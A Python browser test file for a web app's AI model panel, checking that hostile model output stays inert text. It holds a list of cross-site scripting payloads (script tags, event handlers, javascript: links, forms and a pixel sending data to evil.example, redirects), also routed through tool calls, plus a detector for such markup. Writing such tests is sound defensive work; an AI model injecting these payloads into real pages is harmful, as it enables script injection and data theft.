"""What a model says stays text; and what a page pays for the panel."""

import gzip
import re
from collections.abc import Callable
from itertools import pairwise

import pytest
import rjsmin

from ai_assistant.render.markdown import split_blocks
from tests.browser.panel import Panel
from tests.browser.visitor import Visitor
from tests.model_server import ModelServerProcess
from tests.model_server.scripts import text
from tests.servers.app import DemoServer

Visit = Callable[..., Visitor]
HOSTILE = """\
<script>window.hurt = 1</script>
<img src=x onerror="window.hurt = 1">
<svg/onload=window.hurt=1>
<iframe src="https://evil.example/frame"></iframe>

![a picture](https://evil.example/pixel.png?leak=1)
![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)

[click me](javascript:window.hurt=1) and [me](data:text/html,<script>1</script>)
and [me too](vbscript:x) and <javascript:window.hurt=1> and [a][b]

[b]: javascript:window.hurt=1

<style>#aia { display: none !important }</style>
<form action="https://evil.example/take"><input name="aia-input" autofocus></form>
<div id="aia-form" class="aia-approval" onclick="window.hurt=1">Approve</div>
<a href="https://evil.example/" style="position:fixed;inset:0">everywhere</a>
<a id="aia-input" name="AIAssistant">one</a> <img name="htmx" id="aia-strings" src=x>
<form id="aia"><output name="dataset"></output></form><template id="aia-t-chip"></template>
<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">
<link rel=stylesheet href="https://evil.example/x.css">

```html
</code></pre><script>window.hurt = 1</script>
```

| `<b onclick=x>` | <img src=x onerror=window.hurt=1> |
|---|---|
| [x](javascript:window.hurt=1) | ![y](//evil.example/y.png) |

A [plain link](https://example.org/page) at the end.
"""
# The one picture in an answer that is ours: the icon of the button that copies code.
COPY_ICON = (
    '<svg class="aia-i" aria-hidden="true" focusable="false">'
    '<use href="#aia-i-copy"></use></svg>'
)
ODD = f"""() => {{
  const odd = [];
  const isOurs = (node) => node.outerHTML === {COPY_ICON!r}
    && node.parentElement.matches(".aia-code > button.aia-copy:first-child");
  const tags = "script,style,iframe,object,embed,form,input,base,meta,link,img,svg";
  for (const body of document.querySelectorAll("#aia-log .aia-body, #aia-log .aia-text"))
    for (const node of body.querySelectorAll("*")) {{
      if (node.matches(tags) && !isOurs(node)) odd.push(node.outerHTML);
      for (const {{ name, value }} of node.attributes)
        if (/^on|^style$|^srcdoc$/.test(name) || /^(javascript|data|vbscript):/.test(value))
          odd.push(`${{name}}=${{value}}`);
    }}
  return odd;
}}"""
# All that a page ever shows while text grows, and each beginning of a text at once.
WATCH_ODD = f"""() => {{
  window.odd = [];
  const look = {ODD};
  new MutationObserver(() => window.odd.push(...look())).observe(
    document.getElementById("aia"), {{ subtree: true, childList: true }});
}}"""
SHOW_EACH = f"""pieces => {{
  const look = {ODD};
  const own = [...document.querySelectorAll("#aia [id]")].map((node) => node.id);
  const body = document.createElement("div");
  body.className = "aia-body";
  document.getElementById("aia-log").append(body);
  const found = [];
  for (const piece of pieces) {{
    const template = document.createElement("template");
    template.innerHTML = piece;
    body.replaceChildren(template.content);
    found.push(...look());
    const taken = [...body.querySelectorAll("[id], [name]")];
    found.push(...taken.map((node) => node.outerHTML));
  }}
  body.remove();
  return [found, own.filter((id) => !document.getElementById(id)), location.href];
}}"""


HALVES = ("See *", "See **bo", "words*", "a [lin", "there](ht", "org/a")


def visible(source: str) -> str:
    """Return what is seen of a text of one paragraph."""
    (block,) = split_blocks(source)
    return re.sub("<[^>]*>", "", block.html).strip()


# Each text of the last answer that a page ever shows.
WATCH_TEXTS = """() => {
  const seen = (window.seen = []);
  const look = () => {
    const bodies = document.querySelectorAll("#aia-log .aia-msg:last-child .aia-body");
    const text = [...bodies].map((body) => body.textContent).join("");
    if (text !== seen.at(-1)) seen.push(text);
  };
  new MutationObserver(look).observe(
    document.getElementById("aia"), { subtree: true, childList: true, characterData: true });
}"""


class TestHostileText:
    def assert_inert(self, panel: Panel, visitor: Visitor) -> None:
        assert panel.page.evaluate(ODD) == []
        assert panel.page.evaluate("window.hurt") is None
        assert panel.repeated_ids() == []
        assert panel.page.locator("#aia-form").count() == 1
        assert visitor.watch.troubles() == []

    @pytest.mark.scenario(17)
    @pytest.mark.scenario(18)
    @pytest.mark.row("X10")
    def test_hostile_text_is_inert_at_each_cut_growing_drawn_and_in_calls(
        self,
        regular: Visitor,
        panel: Panel,
        model: ModelServerProcess,
        subtests: pytest.Subtests,
    ) -> None:
        with subtests.test("at every cut point"):
            self.inert_at_every_cut_point(panel)
        with subtests.test("in calls and reasoning"):
            self.inert_in_calls(regular, panel, model)
        panel.new_conversation()
        with subtests.test("no half link, no lone star is ever seen"):
            self.no_half_mark_is_seen(panel, model)
        panel.new_conversation()
        with subtests.test("growing, and drawn"):
            self.inert_growing_and_drawn(regular, panel, model)

    def inert_at_every_cut_point(self, panel: Panel) -> None:
        cuts = (HOSTILE[:at] for at in range(len(HOSTILE) + 1))
        pieces = dict.fromkeys(
            "".join(block.html for block in split_blocks(cut)) for cut in cuts
        )
        assert len(pieces) > 500
        found, lost, href = panel.page.evaluate(SHOW_EACH, [*pieces])
        assert (found, lost) == ([], [])
        assert href == panel.page.url
        hurt = panel.page.evaluate("[window.hurt, typeof AIAssistant.open]")
        assert hurt == [None, "function"]

    def inert_in_calls(
        self, regular: Visitor, panel: Panel, model: ModelServerProcess
    ) -> None:
        evil = "<img src=x onerror='window.hurt=1'><script>window.hurt=1</script>"
        calls = [
            {"name": name, "arguments": {"text": evil}}
            for name in ("echo", "needs_approval")
        ]
        thought = {"op": "reasoning", "text": evil}
        first = [thought, {"op": "tool_calls", "calls": calls}]
        model.script("hostile-call", [first, [text(evil)]])
        panel.ask(f"{evil} [[script:hostile-call]]")
        panel.wait_state("waiting-approval")
        self.assert_inert(panel, regular)
        assert evil in panel.approval.inner_text()
        panel.deny(evil)
        panel.wait_done()
        self.assert_inert(panel, regular)
        panel.list_conversations()
        self.assert_inert(panel, regular)

    def no_half_mark_is_seen(self, panel: Panel, model: ModelServerProcess) -> None:
        words = "See **bold words** and a [link to there](https://example.org/a) now. "
        hold = {"op": "hold", "name": "half"}
        cuts = [words.index(half) + len(half) for half in HALVES]
        said = [
            [text(words[:cut], rate=60, size=3), hold, text(words[cut:])]
            for cut in cuts
        ]
        model.script("growing", [[one for line in said for one in line]])
        panel.page.evaluate(WATCH_TEXTS)
        panel.ask("[[script:growing]]")
        for number, cut in enumerate(cuts):
            half = visible(words * number + words[:cut])
            panel.wait(lambda half=half: panel.answer().text.strip() == half, half)
            model.release("half")
        panel.wait_done()
        seen: list[str] = panel.page.evaluate("window.seen")
        assert len(set(seen)) > len(cuts)
        assert not [said for said in seen if "**" in said or "](" in said]
        assert all(len(before) <= len(after) for before, after in pairwise(seen))

    def inert_growing_and_drawn(
        self, regular: Visitor, panel: Panel, model: ModelServerProcess
    ) -> None:
        model.script("hostile-slow", [text(HOSTILE, rate=300, size=4)])
        panel.page.evaluate(WATCH_ODD)
        grown = panel.ask_and_wait("[[script:hostile-slow]]")
        assert panel.page.evaluate("window.odd") == []
        self.assert_inert(panel, regular)
        panel.reload()
        self.assert_inert(panel, regular)
        drawn = [part.html for part in panel.answer().parts]
        assert drawn == [part.html for part in grown.parts]
        hrefs = [one.get_attribute("href") for one in panel.log.locator("a").all()]
        assert hrefs
        assert all((one or "").startswith(("https://", "/", "#")) for one in hrefs)


class TestClosedPanel:
    @pytest.mark.smoke
    @pytest.mark.row("N01", "N02", "D13")
    def test_closed_panel_loads_one_small_script_opens_and_keeps_its_place(
        self, visit: Visit, server: DemoServer, subtests: pytest.Subtests
    ) -> None:
        visitor = visit(server)
        tab = visitor.tab()
        sockets: list[str] = []
        tab.page.on("websocket", lambda socket: sockets.append(socket.url))
        tab.goto()
        tab.page.wait_for_timeout(300)
        with subtests.test("one small script and no socket"):
            own = [r for r in visitor.watch.requests if "/ai_assistant/" in r.url]
            scripts = [r for r in own if r.resource_type == "script"]
            names = [r.url.rpartition("/")[2].partition(".")[0] for r in scripts]
            assert names == ["boot"]
            assert len(own) <= 3
            assert sockets == []
            body = scripts[0].response().text()  # type: ignore[union-attr]
            assert len(gzip.compress(rjsmin.jsmin(body).encode(), 9)) <= 800

        tab.goto("/admin/questionnaires/section/1/change/")
        with subtests.test("it is on every page"):
            assert tab.state == "closed"
            assert tab.page.locator("#aia-launcher").is_visible()

        with subtests.test("it opens, and is where it was left on the next page"):
            tab.open()
            assert tab.state == "idle"
            tab.root.get_by_role("button", name="Float over the page").click()
            tab.wait(lambda: tab.root.get_attribute("data-mode") == "float", "float")
            tab.goto()
            assert tab.state == "idle"
            assert tab.root.get_attribute("data-mode") == "float"

        with subtests.test("it is closed as it was left"):
            tab.root.get_by_role("button", name="Dock at the side").click()
            tab.wait(lambda: tab.root.get_attribute("data-mode") == "dock", "dock")
            tab.page.locator("#aia-close").click()
            tab.wait_state("closed")
            tab.reload()
            assert tab.state == "closed"
            assert tab.root.get_attribute("data-mode") == "dock"
